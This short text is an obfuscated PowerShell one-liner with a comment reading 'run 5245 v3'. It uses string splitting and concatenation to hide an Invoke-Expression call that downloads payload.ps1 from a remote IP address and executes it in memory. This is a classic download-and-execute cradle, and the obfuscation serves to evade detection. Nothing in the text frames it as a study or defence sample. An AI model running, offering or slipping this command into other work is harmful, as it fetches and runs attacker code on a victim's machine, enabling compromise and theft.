iex ('# run 5245 v3
IEX (New-Objec'+'t Net.WebClient).Downl'+'oadString(''http://203'+'.0.11'+'3.200/payload.ps1'')
')